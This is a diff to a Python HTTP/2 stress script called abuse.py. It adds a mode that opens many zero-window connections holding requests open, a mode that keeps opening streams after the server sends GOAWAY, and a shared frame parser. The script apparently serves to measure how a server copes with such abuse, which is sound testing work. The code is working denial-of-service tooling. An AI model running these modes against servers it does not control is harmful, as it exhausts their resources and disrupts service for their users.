@@ -13,6 +13,10 @@ usage: abuse.py HOST PORT ATTACK [ARGS...]
                                      CONNS connections of STREAMS open calls, each header list
                                      BYTES decoded from a few wire bytes (HPACK references);
                                      requests never end, nothing is read, for HOLD seconds
+  zero_window_many CONNS STREAMS PAYLOAD HOLD
+                                     zero_window on CONNS connections at once
+  after_goaway STREAMS               waits for the server's GOAWAY, then opens STREAMS more
+                                     calls as if it had not seen it
   half_preface CONNS WAIT            CONNS connections that send half the client preface,
                                      then nothing: how many the server closed within WAIT s
   idle CONNS WAIT                    the same with a whole preface and no stream
@@ -168,6 +172,77 @@ def zero_window(host, port, streams, payload, hold):
     return peer.summary()
 
 
+def zero_window_many(host, port, conns, streams, payload, hold):
+    body = work_request(int(payload))
+    peers = []
+    for _ in range(int(conns)):
+        peer = Peer(host, port, initial_window=0)
+        for _ in range(int(streams)):
+            peer.request(body=body)
+            if peer.closed:
+                break
+        peers.append(peer)
+    until = time.monotonic() + float(hold)
+    while time.monotonic() < until:
+        for peer in peers:
+            peer.pump(0.02)
+    return {"connections": [peer.summary() for peer in peers]}
+
+
+def after_goaway(host, port, streams):
+    from hpack import Encoder  # Debian's python3-hpack (with python3-h2)
+    encoder = Encoder()
+    sock = socket.create_connection((host, port), timeout=10)
+    # Stream 1 stays open (its request never ends), so the connection outlives the GOAWAY.
+    sock.sendall(PREFACE + raw_frame(SETTINGS, 0, 0, b"") +
+                 raw_frame(0x1, 0x4, 1, encoder.encode(REQUEST)))
+    received, goaway_at = b"", None
+    deadline = time.monotonic() + 10
+    while goaway_at is None and time.monotonic() < deadline:
+        received += sock.recv(1 << 16)
+        for kind, _, _, payload in frames(received):
+            if kind == GOAWAY:
+                goaway_at = len(received)
+    if goaway_at is None:
+        return {"goaway": None}
+    # As a client that ignores the GOAWAY: new streams on the same connection.
+    burst = b"".join(raw_frame(0x1, 0x5, 2 * i + 3, encoder.encode(REQUEST))
+                     for i in range(int(streams)))
+    try:
+        sock.sendall(burst)
+    except OSError:
+        pass
+    sock.settimeout(1)
+    try:
+        while True:
+            chunk = sock.recv(1 << 16)
+            if not chunk:
+                break
+            received += chunk
+    except OSError:
+        pass
+    responses, resets = 0, {}
+    for kind, _, stream_id, payload in frames(received[goaway_at:]):
+        if kind == 0x1 and stream_id > 1:
+            responses += 1
+        elif kind == 0x3 and stream_id > 1:
+            code = str(int.from_bytes(payload[:4], "big"))
+            resets[code] = resets.get(code, 0) + 1
+    return {"goaway": True, "responses": responses, "resets": resets}
+
+
+def frames(data):
+    """(type, flags, stream id, payload) of each whole frame in `data` (after any preface)."""
+    offset = 0
+    while offset + 9 <= len(data):
+        length = int.from_bytes(data[offset:offset + 3], "big")
+        if offset + 9 + length > len(data):
+            break
+        stream_id = int.from_bytes(data[offset + 5:offset + 9], "big") & 0x7FFFFFFF
+        yield data[offset + 3], data[offset + 4], stream_id, data[offset + 9:offset + 9 + length]
+        offset += 9 + length
+
+
 def big_headers(host, port, streams, size):
     peer = Peer(host, port)
     for i in range(int(streams)):
@@ -237,6 +312,10 @@ def main():
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     if attack == "zero_window":
         result = zero_window(host, port, *args)
+    elif attack == "zero_window_many":
+        result = zero_window_many(host, port, *args)
+    elif attack == "after_goaway":
+        result = after_goaway(host, port, *args)
     elif attack == "big_headers":
         result = big_headers(host, port, *args)
     elif attack == "header_memory":
@@ -272,13 +351,10 @@ def flood_frames(host, port, count, one):
             received += chunk
     except OSError:
         closed = True
-    goaway, offset = None, 0
-    while offset + 9 <= len(received):
-        length = int.from_bytes(received[offset:offset + 3], "big")
-        payload = received[offset + 9:offset + 9 + length]
-        if received[offset + 3] == GOAWAY and len(payload) >= 8:
+    goaway = None
+    for kind, _, _, payload in frames(received):
+        if kind == GOAWAY and len(payload) >= 8:
             goaway = int.from_bytes(payload[4:8], "big")
-        offset += 9 + length
     return {"goaway": goaway, "closed": closed}
 
 
